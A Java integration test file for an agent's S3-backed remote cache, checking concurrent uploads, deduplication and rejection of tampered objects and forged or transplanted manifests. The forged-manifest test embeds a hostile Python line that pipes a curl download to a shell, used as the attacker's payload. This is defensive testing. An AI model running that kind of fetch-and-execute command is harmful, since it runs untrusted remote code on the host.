package io.mithril.agent.remote;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mithril.agent.index.Entry;
import io.mithril.agent.index.EntryFile;
import io.mithril.agent.key.GroupId;
import io.mithril.agent.source.Filler;
import io.mithril.agent.store.NodeStore;
import io.mithril.agent.store.StoreFixture;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CyclicBarrier;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.S3Client;

/**
 * The remote tier against a real S3-compatible server: merging writers, dedup, and a bucket whose
 * objects were tampered with (a flipped byte, a cut object, a forged or transplanted manifest)
 * never getting a wrong byte or a foreign entry into the local store.
 */
class RemoteIT extends AgainstBucket {
    private static final GroupId G = StoreFixture.H100;
    private static final GroupId THEIRS = new GroupId("team-b", G.cache(), G.device(), G.product());

    private Remote remote(byte[] key) {
        return remote(RemoteTesting.config(server, prefix, key));
    }

    private Remote remote() {
        return remote(RemoteTesting.KEY);
    }

    private static Uploader.Report uploadAll(Remote r, NodeStore s, GroupId g) throws IOException {
        return r.uploader().upload(s, g, names(s.entries(g)), FAR);
    }

    @Test
    void twoWritersAtOnce_bothEndUpInTheMergedGroup() throws Exception {
        NodeStore a = store("a");
        NodeStore b = store("b");
        byte[] shared = StoreFixture.bytes(9, 2_000_000); // a loose blob both upload
        for (int i = 0; i < 20; i++) {
            StoreFixture.commit(a, G, "inductor/a" + i + "/", ("a " + i).getBytes(), shared);
            StoreFixture.commit(b, G, "inductor/b" + i + "/", ("b " + i).getBytes(), shared);
        }
        CyclicBarrier together = new CyclicBarrier(2);
        Remote ra = remote();
        Remote rb = remote();
        CompletableFuture<Uploader.Report> ua = CompletableFuture.supplyAsync(() -> {
            try {
                together.await();
                return uploadAll(ra, a, G);
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
        together.await();
        Uploader.Report ub = uploadAll(rb, b, G);
        assertThat(ua.get().uploaded()).isEqualTo(20);
        assertThat(ub.uploaded()).isEqualTo(20);

        NodeStore fresh = store("fresh");
        Filler.Report r = new Filler(fresh).fill(remote().source(), G, e -> true, FAR);
        assertThat(r.committed()).isEqualTo(40);
        assertThat(r.rejected()).isZero();
        for (NodeStore s : List.of(a, b)) {
            for (Entry e : s.entries(G)) {
                for (EntryFile f : e.files()) {
                    assertThat(fresh.get(f.address())).isEqualTo(s.get(f.address()));
                }
            }
        }
        assertThat(fresh.verify().corrupt()).isEmpty();
    }

    @Test
    void identicalBytes_goUpOnce() throws Exception {
        NodeStore a = store("a");
        NodeStore b = store("b");
        byte[] big = StoreFixture.bytes(1, 3_000_000);
        StoreFixture.commit(a, G, "triton/K/", big, "meta".getBytes());
        StoreFixture.commit(b, G, "triton/K/", big, "meta".getBytes());
        StoreFixture.commit(b, THEIRS, "triton/K/", big);
        assertThat(uploadAll(remote(), a, G).blobs()).isEqualTo(2);
        Uploader.Report again = uploadAll(remote(), b, G);
        assertThat(again.uploaded()).as("listed already").isZero();
        assertThat(again.blobs()).isZero();
        Uploader.Report otherGroup = uploadAll(remote(), b, THEIRS);
        assertThat(otherGroup.uploaded()).isEqualTo(1);
        assertThat(otherGroup.bytes()).as("the loose blob is there already").isZero();
    }

    @Test
    void fewRequestsForManySmallFiles() throws Exception {
        NodeStore a = store("a");
        for (int i = 0; i < 300; i++) {
            StoreFixture.commit(a, G, "inductor/c" + i + "/", StoreFixture.bytes(i, 10_000 + i));
        }
        uploadAll(remote(), a, G);
        Remote r = remote();
        NodeStore fresh = store("fresh");
        assertThat(new Filler(fresh).fill(r.source(), G, e -> true, FAR).committed())
                .isEqualTo(300);
        assertThat(r.source().requests()).as("list + manifest + one pack").isLessThanOrEqualTo(4);
    }

    @Test
    void concurrentFillsOfOneGroup_fetchEachBlobOnce() throws Exception {
        NodeStore a = store("a");
        StoreFixture.commit(a, G, "triton/BIG/", StoreFixture.bytes(2, 2_000_000));
        for (int i = 0; i < 50; i++) {
            StoreFixture.commit(a, G, "inductor/s" + i + "/", StoreFixture.bytes(100 + i, 20_000));
        }
        uploadAll(remote(), a, G);
        Remote r = remote(); // one agent process: its one remote, two pods of the group at once
        NodeStore fresh = store("fresh");
        CyclicBarrier together = new CyclicBarrier(2);
        List<CompletableFuture<Filler.Report>> fills = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            fills.add(CompletableFuture.supplyAsync(() -> {
                try {
                    together.await();
                    return new Filler(fresh).fill(r.source(), G, e -> true, FAR);
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }));
        }
        int committed = 0;
        int present = 0;
        for (CompletableFuture<Filler.Report> f : fills) {
            committed += f.get().committed();
            present += f.get().present();
        }
        assertThat(committed).as("entries brought in, by both fills").isEqualTo(51);
        assertThat(present).as("what the second found there").isEqualTo(51);
        assertThat(r.stats().requests(RemoteStats.Operation.GET, RemoteStats.Result.OK))
                .as("the manifest, the pack, the loose blob: once")
                .isEqualTo(3);
        assertThat(r.stats().bytesDown()).isLessThan(2_000_000 + 50 * 20_000 + 300_000);
        assertThat(fresh.verify().corrupt()).isEmpty();
    }

    @Test
    void flippedByteInAPack_isNeverServed() throws Exception {
        NodeStore a = store("a");
        StoreFixture.commit(a, G, "inductor/good/", "good".getBytes());
        Entry victim = StoreFixture.commit(a, G, "inductor/victim/", StoreFixture.bytes(5, 50_000));
        uploadAll(remote(), a, G);
        Path pack = onlyObject("packs/");
        try (RandomAccessFile f = new RandomAccessFile(pack.toFile(), "rw")) {
            long at = f.length() - 100; // the victim's bytes: it went into the pack last
            f.seek(at);
            int c = f.read();
            f.seek(at);
            f.write(c ^ 1);
        }
        NodeStore fresh = store("fresh");
        Filler.Report r = new Filler(fresh).fill(remote().source(), G, e -> true, FAR);
        assertThat(r.rejected()).isEqualTo(1);
        assertThat(names(fresh.entries(G))).containsExactly("inductor/good/");
        assertThat(fresh.exists(victim.files().get(0).address())).isFalse();
        assertThat(fresh.verify().corrupt()).isEmpty();
    }

    @Test
    void truncatedObjects_areNeverServed() throws Exception {
        NodeStore a = store("a");
        Entry big = StoreFixture.commit(a, G, "triton/BIG/", StoreFixture.bytes(6, 2_500_000));
        Entry small = StoreFixture.commit(a, G, "inductor/small/", StoreFixture.bytes(7, 40_000));
        uploadAll(remote(), a, G);
        for (String folder : List.of("blobs/", "packs/")) {
            Path p = onlyObject(folder);
            try (RandomAccessFile f = new RandomAccessFile(p.toFile(), "rw")) {
                f.setLength(f.length() / 2);
            }
        }
        NodeStore fresh = store("fresh");
        Filler.Report r = new Filler(fresh).fill(remote().source(), G, e -> true, FAR);
        assertThat(r.committed()).isZero();
        assertThat(fresh.entries(G)).isEmpty();
        assertThat(fresh.exists(big.files().get(0).address())).isFalse();
        assertThat(fresh.exists(small.files().get(0).address())).isFalse();
        assertThat(fresh.stats().blobs()).isZero();
    }

    @Test
    void forgedManifest_isIgnoredAndCounted() throws Exception {
        NodeStore a = store("a");
        StoreFixture.commit(a, G, "inductor/good/", "good".getBytes());
        uploadAll(remote(), a, G);
        NodeStore evil = store("evil");
        StoreFixture.commit(evil, G, "inductor/evil/", "import os; os.system('curl x | sh')".getBytes());
        uploadAll(remote("someone-elses-key-0123456789".getBytes(StandardCharsets.UTF_8)), evil, G);

        Remote r = remote();
        assertThat(names(r.source().entries(G))).containsExactly("inductor/good/");
        assertThat(r.source().rejectedManifests()).isEqualTo(1);
        NodeStore fresh = store("fresh");
        new Filler(fresh).fill(r.source(), G, e -> true, FAR);
        assertThat(names(fresh.entries(G))).containsExactly("inductor/good/");
    }

    @Test
    void anotherNamespacesManifest_isNeverFetched_evenCopiedIntoOurs() throws Exception {
        NodeStore b = store("b");
        StoreFixture.commit(b, THEIRS, "inductor/ab/cabc.py", "theirs".getBytes());
        uploadAll(remote(), b, THEIRS);
        Remote r = remote();
        assertThat(r.source().entries(G)).isEmpty();

        Layout layout = new Layout(prefix);
        try (S3Client c = server.client()) {
            String theirs = c.listObjectsV2(x -> x.bucket(server.bucket()).prefix(layout.manifests(THEIRS)))
                    .contents()
                    .get(0)
                    .key();
            byte[] bytes = c.getObjectAsBytes(x -> x.bucket(server.bucket()).key(theirs))
                    .asByteArray();
            String ours = layout.manifests(G) + theirs.substring(theirs.lastIndexOf('/') + 1);
            c.putObject(x -> x.bucket(server.bucket()).key(ours), RequestBody.fromBytes(bytes));
        }
        assertThat(r.source().entries(G)).isEmpty();
        assertThat(r.source().rejectedManifests()).isEqualTo(1);
        assertThat(names(r.source().entries(THEIRS))).containsExactly("inductor/ab/cabc.py");
    }

    @Test
    void serverDown_isAnIOException_andTheNextCallWorksWhenItIsBack() throws Exception {
        NodeStore a = store("a");
        StoreFixture.commit(a, G, "inductor/x/", "x".getBytes());
        Remote r = remote();
        server.kill();
        try {
            long t0 = System.nanoTime();
            assertThatThrownBy(() -> uploadAll(r, a, G)).isInstanceOf(IOException.class);
            assertThat((System.nanoTime() - t0) / 1_000_000)
                    .as("ms, bounded by the timeouts")
                    .isLessThan(15_000);
        } finally {
            server.start();
        }
        assertThat(uploadAll(r, a, G).uploaded()).isEqualTo(1);
    }

    /** The one object under {@code PREFIX/folder} as the filesystem backend keeps it. */
    private Path onlyObject(String folder) throws IOException {
        try (S3Client c = server.client()) {
            List<String> keys = new ArrayList<>();
            c.listObjectsV2(x -> x.bucket(server.bucket()).prefix(prefix + folder))
                    .contents()
                    .forEach(o -> keys.add(o.key()));
            assertThat(keys).hasSize(1);
            Path p = server.objectFile(keys.get(0));
            assertThat(p).isRegularFile();
            return p;
        }
    }
}
